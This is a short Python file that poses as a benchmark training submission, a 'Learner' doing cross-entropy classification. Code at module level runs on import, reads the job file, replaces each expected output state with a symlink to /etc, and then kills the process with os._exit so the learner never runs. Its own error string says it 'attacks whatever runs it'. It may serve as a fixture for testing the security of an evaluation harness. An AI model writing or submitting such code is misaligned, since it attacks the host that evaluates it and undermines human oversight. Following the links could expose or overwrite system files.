"""Puts a link where a state belongs: to wherever the host keeps other states."""

import json
import os
import pathlib
import sys

import torch.nn.functional as F
from torch import nn

from benchmark.method.contract import Method

if not pathlib.Path("/fmn/outbox").is_dir():
    raise RuntimeError("this submission attacks whatever runs it: only a trainer's container may")

JOB = json.loads(pathlib.Path("/fmn/job.json").read_text())
for segment in JOB["segments"]:
    os.symlink("/etc", f"/fmn/outbox/{segment['key']}")
sys.stdout.flush()
os._exit(0)


class Learner(Method):
    """Cross-entropy on the images as they are."""

    def __init__(self, setting):
        super().__init__(setting)
        self.head = nn.Linear(setting.feature_dim, setting.num_classes)

    def loss(self, encoder, views_VBCHW, labels_B):
        return F.cross_entropy(self.head(encoder(views_VBCHW[0])), labels_B)
